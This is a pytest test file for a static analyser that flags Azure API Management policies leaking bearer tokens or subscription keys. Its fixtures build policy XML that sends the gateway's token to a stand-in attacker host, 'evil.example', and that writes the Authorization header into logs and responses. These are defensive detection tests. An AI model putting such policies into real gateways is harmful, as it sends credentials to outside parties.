"""The token and the subscription key leave in the backend's request, or not at all."""

from __future__ import annotations

from typing import Any

import pytest

from constructs_lib.access import analyse, read_stacks
from tests.access.samples import APP, AUDIENCE, CLIENT, chain, policy

GATEWAY = "azurerm_api_management"
TOKEN = f'<authentication-managed-identity resource="{AUDIENCE}" client-id="{CLIENT}" />'
INTO_T = TOKEN.replace(" />", ' output-token-variable-name="t" />')
KEY = "Ocp-Apim-Subscription-Key"
DROP_KEY = f'<set-header name="{KEY}" exists-action="delete" />'
DROP_TOKEN = '<set-header name="Authorization" exists-action="delete" />'
EVIL = "https://evil.example/x"
OURS = f"https://${{{APP}.orders.default_hostname}}/api/x"


def header(name: str) -> str:
    return f"context.Request.Headers.GetValueOrDefault(&quot;{name}&quot;,&quot;&quot;)"


AUTHORIZATION = f"<value>@({header('Authorization')})</value>"
T = "<value>@((string)context.Variables[&quot;t&quot;])</value>"


def request(inner: str = "", url: str = EVIL, mode: str = "new", tag: str = "send-request") -> str:
    return f'<{tag} mode="{mode}"><set-url>{url}</set-url>{inner}</{tag}>'


def rules(
    before: str = "", after: str = "", end: str = "", outbound: str = "", error: str = ""
) -> set[str]:
    """What is found with statements before and after the token, and in the other sections."""
    text = policy(inbound=after).replace("<base />", f"<base />{before}", 1)
    text = text.replace("</inbound>", f"{end}</inbound>")
    text = text.replace("</outbound>", f"{outbound}</outbound>")
    text = text.replace("</on-error>", f"{error}</on-error>")
    document = chain()
    document["resource"][f"{GATEWAY}_api_policy"]["orders"]["xml_content"] = text
    return {each.rule for each in analyse(read_stacks({"stack": document})).findings}


@pytest.mark.parametrize("tag", ["send-request", "send-one-way-request"])
def test_a_token_in_a_request_to_another_host(tag: str) -> None:
    assert rules(before=request(TOKEN, tag=tag)) == {"SF310"}
    with_t = f'<set-header name="Authorization">{T}</set-header>'
    assert rules(before=INTO_T + request(with_t, tag=tag)) == {"SF310"}
    assert rules(before=INTO_T + request(f"<set-body>{T}</set-body>", tag=tag)) == {"SF310"}
    copied = f'<set-header name="Authorization">{AUTHORIZATION}</set-header>'
    assert rules(after=request(copied, tag=tag)) == {"SF310"}


@pytest.mark.parametrize("tag", ["send-request", "send-one-way-request"])
def test_a_copy_of_the_request_holds_what_the_request_holds(tag: str) -> None:
    copy: dict[str, Any] = {"mode": "copy", "tag": tag}
    assert rules(end=request(**copy)) == {"SF310"}
    assert rules(end=request(DROP_TOKEN, **copy)) == set()
    assert rules(before=request(**copy)) == {"SF312"}
    assert rules(before=request(DROP_KEY, **copy)) == set()
    assert rules(after=request(**copy)) == {"SF310", "SF312"}
    assert rules(outbound=request(**copy)) == {"SF310"}


@pytest.mark.parametrize(
    "sent",
    [
        request(),
        request(f'<set-header name="X-Id"><value>@({header("X-Id")})</value></set-header>'),
        request(TOKEN, url=OURS),
        request(TOKEN, url="https://func-orders.azurewebsites.net/api/x"),
        request(
            TOKEN.replace(AUDIENCE, "https://vault.azure.net"), url="https://kv.vault.azure.net/x"
        ),
    ],
)
def test_other_requests_are_nobodys_concern(sent: str) -> None:
    assert rules(end=sent) == set()


@pytest.mark.parametrize(
    "url", ["https://${var.host}/x", "@((string)context.Variables[&quot;url&quot;])"]
)
def test_a_token_to_a_host_that_is_not_known_is_told(url: str) -> None:
    assert rules(end=request(TOKEN, url=url)) == {"SF901"}


LOG = f"<log-to-eventhub logger-id='hub'>@({header('Authorization')})</log-to-eventhub>"
ANSWER = f"<return-response><set-body>@({header('Authorization')})</set-body></return-response>"
MAYBE = f'<choose><when condition="@(true)">{ANSWER}</when></choose>'


def test_a_token_in_an_answer_or_a_log() -> None:
    assert rules(after=LOG) == {"SF317"}
    assert rules(after=MAYBE) == {"SF317"}
    given = f'<set-header name="X-Token">{AUTHORIZATION}</set-header>'
    assert rules(outbound=given) == {"SF317"}
    assert rules(error=given) == {"SF317"}
    assert rules(outbound=f"<set-body>@({header('Authorization')})</set-body>") == {"SF317"}
    assert rules(before=INTO_T, outbound=f'<set-header name="X">{T}</set-header>') == {"SF317"}
    kept = f'<set-variable name="kept" value="@({header("Authorization")})" />'
    told = "<value>@((string)context.Variables[&quot;kept&quot;])</value>"
    assert rules(after=kept, outbound=f'<set-header name="X">{told}</set-header>') == {"SF317"}


def test_the_callers_own_authorization_and_claims_are_not_the_token() -> None:
    assert rules(before=LOG) == set()
    assert rules(before=MAYBE) == set()
    claims = f"<set-body>@({header('Authorization')}.AsJwt()?.Subject)</set-body>"
    assert rules(outbound=claims) == set()
    assert rules(
        outbound='<set-header name="X"><value>@(context.RequestId)</value></set-header>'
    ) == (set())


def test_a_key_that_is_copied_before_it_is_deleted() -> None:
    copied = f'<set-header name="X-Caller"><value>@({header(KEY)})</value></set-header>'
    assert rules(before=copied) == {"SF312"}
    assert rules(end=copied) == set()
    assert (
        rules(before=copied, end='<set-header name="x-caller" exists-action="delete" />') == set()
    )


@pytest.mark.parametrize("kind", ["api_diagnostic", "diagnostic"])
@pytest.mark.parametrize("block", ["frontend_request", "backend_request", "backend_response"])
@pytest.mark.parametrize("name", ["Authorization", KEY.lower()])
def test_a_header_with_a_secret_in_it_is_logged_masked_or_not_at_all(
    kind: str, block: str, name: str
) -> None:
    def found(written: dict[str, Any]) -> list[tuple[str, str, str | None]]:
        document = chain()
        document["resource"][f"{GATEWAY}_{kind}"] = {"d": {"identifier": "x", block: written}}
        findings = analyse(read_stacks({"stack": document})).findings
        return [(each.rule, each.severity, each.address) for each in findings]

    logged = {"headers_to_log": ["X-Id", name]}
    masked = {"headers": [{"mode": "Mask", "value": name.upper()}]}
    assert found(logged) == [("SF318", "warning", f"{GATEWAY}_{kind}.d")]
    assert found(logged | {"data_masking": masked}) == []
    assert found({"headers_to_log": ["X-Id"]}) == []
